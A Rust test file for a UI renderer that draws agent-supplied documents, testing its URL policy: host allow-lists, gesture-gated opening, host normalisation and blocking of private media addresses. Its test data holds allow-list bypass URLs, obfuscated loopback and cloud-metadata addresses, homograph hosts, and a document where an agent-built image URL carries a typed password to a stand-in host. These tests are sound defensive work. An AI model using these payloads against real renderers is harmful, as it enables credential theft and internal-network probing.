//! The one URL policy in the renderer: the host's allow-list applies to `openUrl` actions
//! and to images alike, opening needs a user gesture, and a host's former `ImagePolicy`
//! still decides media after migrating to `UrlPolicy::with_image_policy`.

use crate::common;

use common::{harness_for, v09_doc};
use egui::accesskit::Role;
use egui_a2ui::UrlPolicy;
use egui_a2ui::render::ImagePolicy;
use egui_a2ui::{Catalog, ComponentContext, Event, Renderer, RendererOptions, Version};
use egui_kittest::kittest::{NodeT as _, Queryable};
use serde_json::json;

fn renderer(policy: UrlPolicy, doc: &str) -> Renderer {
    let mut r = Renderer::new(Catalog::basic()).with_options(RendererOptions {
        url_policy: policy,
        ..Default::default()
    });
    r.feed_document(doc.as_bytes());
    r
}

fn open_button(url: &str) -> String {
    v09_doc(
        json!([
            {"id": "root", "component": "Button", "child": "l",
                "action": {"functionCall": {"call": "openUrl", "args": {"url": url}}}},
            {"id": "l", "component": "Text", "text": "Open"}
        ]),
        json!({}),
    )
}

fn opened(events: &[Event]) -> Vec<String> {
    events
        .iter()
        .filter_map(|e| match e {
            Event::OpenUrl { url, .. } => Some(url.clone()),
            _ => None,
        })
        .collect()
}

fn errors(events: &[Event]) -> Vec<String> {
    events
        .iter()
        .filter_map(|e| match e {
            Event::Error(e) => Some(e.error.to_string()),
            _ => None,
        })
        .collect()
}

#[test]
fn the_host_allow_list_decides_which_urls_open() {
    let policy = || UrlPolicy::default().allow_hosts(["example.com"]);
    let mut h = harness_for(renderer(
        policy(),
        &open_button("https://docs.example.com/a"),
    ));
    h.get_by_role_and_label(Role::Button, "Open").click();
    h.run();
    assert_eq!(opened(&h.state().events), ["https://docs.example.com/a"]);

    for url in [
        "https://evil.com/",
        "https://example.com@evil.com/",
        "https://example.com.evil.com/",
    ] {
        let mut h = harness_for(renderer(policy(), &open_button(url)));
        h.get_by_role_and_label(Role::Button, "Open").click();
        h.run();
        assert!(opened(&h.state().events).is_empty(), "{url}");
        let errors = errors(&h.state().events);
        assert!(
            errors.iter().any(|e| e.contains("is not allowed")),
            "{url}: {errors:?}"
        );
    }
}

#[test]
fn the_url_handed_to_the_host_is_cleaned() {
    let mut h = harness_for(renderer(
        UrlPolicy::default(),
        &open_button(" \u{1}HTTPS://example.com/a\tb\n"),
    ));
    h.get_by_role_and_label(Role::Button, "Open").click();
    h.run();
    assert_eq!(opened(&h.state().events), ["HTTPS://example.com/ab"]);
}

/// A component that asks to open a URL while it is drawn, without any gesture.
fn eager(ui: &mut egui::Ui, cx: &mut ComponentContext<'_, '_>) -> egui::Response {
    cx.open_url("https://example.com/pop-up");
    ui.label("eager")
}

#[test]
fn opening_a_url_without_a_user_gesture_is_refused() {
    let cat = "https://example.com/catalogs/eager.json";
    let mut catalog = Catalog::basic().with_catalog_id(cat, Version::V0_9);
    catalog.register("Eager", eager);
    let mut r = Renderer::new(catalog);
    r.feed_document(
        format!(
            "{}\n{}\n",
            json!({"version": "v0.9", "createSurface": {"surfaceId": "s", "catalogId": cat}}),
            json!({"version": "v0.9", "updateComponents": {"surfaceId": "s", "components": [{"id": "root", "component": "Eager"}]}})
        )
        .as_bytes(),
    );
    let ctx = egui::Context::default();
    let mut events = Vec::new();
    for _ in 0..3 {
        let mut out = ctx.run_ui(egui::RawInput::default(), |ui| events.extend(r.ui(ui)));
        out.textures_delta.clear();
    }
    assert!(opened(&events).is_empty());
    let errors = errors(&events);
    assert!(
        !errors.is_empty() && errors.iter().all(|e| e.contains("user gesture")),
        "{errors:?}"
    );

    // A host that opts out of the gesture rule gets the URL.
    let mut r2 = Renderer::new({
        let mut c = Catalog::basic().with_catalog_id(cat, Version::V0_9);
        c.register("Eager", eager);
        c
    })
    .with_options(RendererOptions {
        url_policy: UrlPolicy::default().with_user_activation(false),
        ..Default::default()
    });
    r2.feed_document(
        format!(
            "{}\n{}\n",
            json!({"version": "v0.9", "createSurface": {"surfaceId": "s", "catalogId": cat}}),
            json!({"version": "v0.9", "updateComponents": {"surfaceId": "s", "components": [{"id": "root", "component": "Eager"}]}})
        )
        .as_bytes(),
    );
    let mut events = Vec::new();
    let mut out = ctx.run_ui(egui::RawInput::default(), |ui| events.extend(r2.ui(ui)));
    out.textures_delta.clear();
    assert_eq!(opened(&events), ["https://example.com/pop-up"]);
}

fn image_doc(url: &str) -> String {
    v09_doc(
        json!([{"id": "root", "component": "Image", "url": url, "description": "Picture"}]),
        json!({}),
    )
}

fn image_state(policy: UrlPolicy, url: &str) -> String {
    let h = harness_for(renderer(policy, &image_doc(url)));
    h.get_by_label("Picture")
        .accesskit_node()
        .description()
        .unwrap_or_default()
        .to_owned()
}

#[test]
fn the_allow_list_applies_to_images_too() {
    let policy = || UrlPolicy::default().allow_hosts(["cdn.example.com"]);
    assert!(image_state(policy(), "https://evil.com/x.png").contains("blocked"));
    // Allowed: it gets as far as loading (no http loader in tests).
    assert!(!image_state(policy(), "https://cdn.example.com/x.png").contains("blocked"));
}

/// A host's own image rule from before the one policy: plain http on the LAN.
struct LanImages;

impl ImagePolicy for LanImages {
    fn allows(&self, url: &str) -> bool {
        url.starts_with("http://printer.local/")
    }
}

#[test]
fn a_former_image_policy_keeps_deciding_media_after_migration() {
    let policy = || UrlPolicy::default().with_image_policy(LanImages);
    assert!(!image_state(policy(), "http://printer.local/a.png").contains("blocked"));
    assert!(image_state(policy(), "https://example.com/a.png").contains("blocked"));
    assert!(image_state(UrlPolicy::default(), "http://printer.local/a.png").contains("blocked"));
}

// --- normalised hosts and local addresses (review L3) --------------------------------

/// The hosts a host hook was shown for `urls`, each checked for `use_`.
fn hosts_seen(urls: &[&str], use_: egui_a2ui::UrlUse) -> Vec<String> {
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = std::sync::Arc::clone(&seen);
    let policy = UrlPolicy::default()
        .allow_private_media_hosts(true)
        .with_host_filter(move |t| {
            log.lock().unwrap().push(t.host.unwrap_or("").to_owned());
            true
        });
    for url in urls {
        let _ = policy.check(url, use_, true);
    }
    seen.lock().map(|g| g.clone()).unwrap_or_default()
}

#[test]
fn the_host_hook_sees_hosts_normalised() {
    let seen = hosts_seen(
        &[
            "https://2130706433/",
            "https://127.1/",
            "https://0x7f000001/",
            "https://0x7f.1/",
            "https://0177.0.0.1/",
            "https://attacker\u{ff0e}example/",
            "https://ATTACKER.example./",
            "https://b\u{fc}cher.example/",
            "https://[0:0:0:0:0:0:0:1]:443/",
            "https://user@%65vil.example/",
        ],
        egui_a2ui::UrlUse::Open,
    );
    assert_eq!(
        seen,
        [
            "127.0.0.1",
            "127.0.0.1",
            "127.0.0.1",
            "127.0.0.1",
            "127.0.0.1",
            "attacker.example",
            "attacker.example",
            "xn--bcher-kva.example",
            "[::1]",
            "evil.example",
        ]
    );
}

#[test]
fn a_deny_list_hook_cannot_be_bypassed_by_number_forms_or_fullwidth_dots() {
    let policy = UrlPolicy::default()
        .with_host_filter(|t| !matches!(t.host, Some("127.0.0.1" | "attacker.example")));
    for url in [
        "https://2130706433/",
        "https://127.1/",
        "https://0x7f000001/",
        "https://attacker\u{ff0e}example/",
        "https://\u{ff41}ttacker.example/",
    ] {
        assert!(
            policy.check(url, egui_a2ui::UrlUse::Open, true).is_err(),
            "{url}"
        );
    }
    // The allow-list matches IDN entries in their punycode form.
    let idn = UrlPolicy::default().allow_hosts(["b\u{fc}cher.example"]);
    assert!(
        idn.check(
            "https://www.xn--bcher-kva.example/",
            egui_a2ui::UrlUse::Open,
            true
        )
        .is_ok()
    );
}

#[test]
fn private_and_loopback_media_are_refused_by_default_and_allowed_with_the_switch() {
    let urls = [
        "https://127.0.0.1/a.png",
        "https://2130706433/a.png",
        "https://localhost/a.png",
        "https://printer.localhost./a.png",
        "https://10.0.0.5/a.png",
        "https://172.16.3.4/a.png",
        "https://192.168.1.1/a.png",
        "https://169.254.169.254/latest/meta-data",
        "https://100.64.0.1/a.png",
        "https://0.0.0.0/a.png",
        "https://[::1]/a.png",
        "https://[fd00::1]/a.png",
        "https://[fe80::1]/a.png",
        "https://[::ffff:192.168.1.1]/a.png",
    ];
    let strict = UrlPolicy::default();
    let lan = UrlPolicy::default().allow_private_media_hosts(true);
    for url in urls {
        assert!(
            matches!(
                strict.check(url, egui_a2ui::UrlUse::Media, false),
                Err(egui_a2ui::UrlRefusal::PrivateHost(_))
            ),
            "{url}"
        );
        assert_eq!(
            lan.check(url, egui_a2ui::UrlUse::Media, false),
            Ok(()),
            "{url}"
        );
    }
    // Public addresses and names still load; opening a LAN address is the user's choice.
    for url in ["https://93.184.216.34/a.png", "https://100.128.0.1/a.png"] {
        assert_eq!(strict.check(url, egui_a2ui::UrlUse::Media, false), Ok(()));
    }
    assert_eq!(
        strict.check("https://192.168.1.1/", egui_a2ui::UrlUse::Open, true),
        Ok(())
    );
    // The check an http loader runs on a redirect target applies the same rule.
    assert!(!strict.allows_media("https://0x7f.1/redirected.png"));
    assert!(image_state(UrlPolicy::default(), "https://127.1/x.png").contains("blocked"));
}

#[test]
fn display_host_shows_what_the_policy_parsed() {
    assert_eq!(
        egui_a2ui::display_host("https://attacker.example\\@bank.com/v.mp4").as_deref(),
        Some("attacker.example")
    );
    assert_eq!(
        egui_a2ui::display_host("https://2130706433/").as_deref(),
        Some("127.0.0.1")
    );
    // Mixed Latin and Cyrillic: punycode.
    let mixed = egui_a2ui::display_host("https://p\u{430}ypal.com/").unwrap();
    assert!(mixed.starts_with("xn--"), "{mixed}");
    // One non-Latin script that does not imitate Latin: shown as written.
    assert_eq!(
        egui_a2ui::display_host("https://\u{4f8b}\u{3048}.jp/").as_deref(),
        Some("\u{4f8b}\u{3048}.jp")
    );
}

// --- computed media URLs (review H4) ----------------------------------------------

/// A bytes loader that records every `https:` URI egui asked it for, and answers
/// "pending" (so no other loader is asked and nothing is fetched).
#[derive(Default)]
struct CountingLoader {
    uris: std::sync::Mutex<Vec<String>>,
}

impl CountingLoader {
    fn distinct(&self) -> Vec<String> {
        let mut v = self.uris.lock().unwrap().clone();
        v.dedup();
        v
    }
}

impl egui::load::BytesLoader for CountingLoader {
    fn id(&self) -> &str {
        "tests::CountingLoader"
    }

    fn load(&self, _ctx: &egui::Context, uri: &str) -> egui::load::BytesLoadResult {
        if !uri.starts_with("https://") {
            return Err(egui::load::LoadError::NotSupported);
        }
        let mut uris = self.uris.lock().unwrap();
        if uris.last().is_none_or(|u| u != uri) {
            uris.push(uri.to_owned());
        }
        Ok(egui::load::BytesPoll::Pending { size: None })
    }

    fn forget(&self, _uri: &str) {}

    fn forget_all(&self) {}

    fn byte_size(&self) -> usize {
        0
    }
}

/// A harness drawing `doc` under `policy`, with a [`CountingLoader`] asked before any
/// other bytes loader from the first frame on.
fn counting_harness(
    policy: UrlPolicy,
    doc: &str,
) -> (
    egui_kittest::Harness<'static, common::App>,
    std::sync::Arc<CountingLoader>,
) {
    let loader = std::sync::Arc::new(CountingLoader::default());
    let mut h = common::build(
        egui_kittest::Harness::builder().with_size(egui::vec2(800.0, 700.0)),
        renderer(policy, doc),
        None,
    );
    egui_a2ui::render::install_loaders(&h.ctx);
    h.ctx.add_bytes_loader(loader.clone());
    h.step();
    (h, loader)
}

/// The review's H4 input: an obscured password field and an icon whose URL is
/// `formatString` over the password.
fn exfiltration_doc() -> String {
    v09_doc(
        json!([
            {"id": "root", "component": "Column", "children": ["pw", "px"]},
            {"id": "pw", "component": "TextField", "label": "Password", "variant": "obscured",
                "value": {"path": "/pw"}},
            {"id": "px", "component": "Image", "variant": "icon", "description": "Pixel",
                "url": {"call": "formatString",
                    "args": {"value": "https://img.example.invalid/p.png?k=${/pw}"}}}
        ]),
        json!({"pw": ""}),
    )
}

/// Type `secret` one character a frame (4 a second in the harness clock), as data
/// writes from the field would, then let `settle_frames` more frames pass.
fn type_secret(
    h: &mut egui_kittest::Harness<'static, common::App>,
    secret: &str,
    settle_frames: usize,
) {
    let mut typed = String::new();
    for c in secret.chars() {
        typed.push(c);
        let write = json!({"version": "v0.9", "updateDataModel":
            {"surfaceId": "s", "path": "/pw", "value": typed}});
        h.state_mut().renderer.apply(write).into_result().unwrap();
        h.step();
    }
    for _ in 0..settle_frames {
        h.step();
    }
}

#[test]
fn a_computed_image_url_is_not_fetched_by_default_while_the_user_types() {
    let (mut h, loader) = counting_harness(UrlPolicy::default(), &exfiltration_doc());
    type_secret(&mut h, "hunter2", 12);
    assert!(loader.distinct().is_empty(), "{:?}", loader.distinct());
    let state = h
        .get_by_label("Pixel")
        .accesskit_node()
        .description()
        .unwrap_or_default()
        .to_owned();
    assert!(state.contains("blocked"), "{state}");
    // One typed error to the agent, and it does not carry what was typed.
    let errors = h.state().errors();
    let computed: Vec<_> = errors.iter().filter(|e| e.contains("computed")).collect();
    assert_eq!(computed.len(), 1, "{errors:?}");
    assert!(!errors.iter().any(|e| e.contains("hunter")), "{errors:?}");
}

#[test]
fn an_allowed_computed_image_url_is_fetched_once_typing_pauses_not_per_keystroke() {
    let policy = UrlPolicy::default().allow_computed_media_hosts(["img.example.invalid"]);
    let (mut h, loader) = counting_harness(policy, &exfiltration_doc());
    // Seven keystrokes a quarter second apart, then two seconds without typing.
    type_secret(&mut h, "hunter2", 8);
    assert_eq!(
        loader.distinct(),
        ["https://img.example.invalid/p.png?k=hunter2"],
        "one request, for the settled URL"
    );
    // The loader does see every change when the host turns settling off: the settle
    // time is what holds the keystrokes back.
    let eager = UrlPolicy::default()
        .allow_computed_media_hosts(["img.example.invalid"])
        .with_computed_media_settle(std::time::Duration::ZERO);
    let (mut h, loader) = counting_harness(eager, &exfiltration_doc());
    type_secret(&mut h, "hunter2", 0);
    assert!(loader.distinct().len() >= 7, "{:?}", loader.distinct());
    // A literal URL is not held back.
    let literal = v09_doc(
        json!([{"id": "root", "component": "Image", "description": "Logo",
            "url": "https://img.example.invalid/logo.png"}]),
        json!({}),
    );
    let (_h, loader) = counting_harness(UrlPolicy::default(), &literal);
    assert_eq!(loader.distinct(), ["https://img.example.invalid/logo.png"]);
}

#[test]
fn an_image_bound_to_the_path_a_field_writes_stops_loading_once_the_user_types() {
    // The agent pre-fills the field with the start of a URL: the obscured field shows only
    // dots, and the Image bound to the same path would carry what the user types next.
    let doc = v09_doc(
        json!([
            {"id": "root", "component": "Column", "children": ["pw", "px", "logo"]},
            {"id": "pw", "component": "TextField", "label": "Password", "variant": "obscured",
                "value": {"path": "/pw"}},
            {"id": "px", "component": "Image", "variant": "icon", "description": "Pixel",
                "url": {"path": "/pw"}},
            {"id": "logo", "component": "Image", "variant": "icon", "description": "Logo",
                "url": {"path": "/logo"}}
        ]),
        json!({"pw": "https://img.example.invalid/p.png?k=",
               "logo": "https://img.example.invalid/logo.png"}),
    );
    let (mut h, loader) = counting_harness(UrlPolicy::default(), &doc);
    // Bound to data only the agent wrote: the agent's own word, loaded as a literal is
    // (the official examples bind Image.url so).
    assert!(
        loader
            .distinct()
            .iter()
            .any(|u| u == "https://img.example.invalid/logo.png"),
        "{:?}",
        loader.distinct()
    );
    h.get_by_label("Password").click();
    h.run_steps(2);
    h.get_by_label("Password").type_text("hunter2");
    h.run_steps(12);
    assert!(
        !loader.distinct().iter().any(|u| u.contains("hunter")),
        "{:?}",
        loader.distinct()
    );
    let state = h
        .get_by_label("Pixel")
        .accesskit_node()
        .description()
        .unwrap_or_default()
        .to_owned();
    assert!(state.contains("blocked"), "{state}");
}
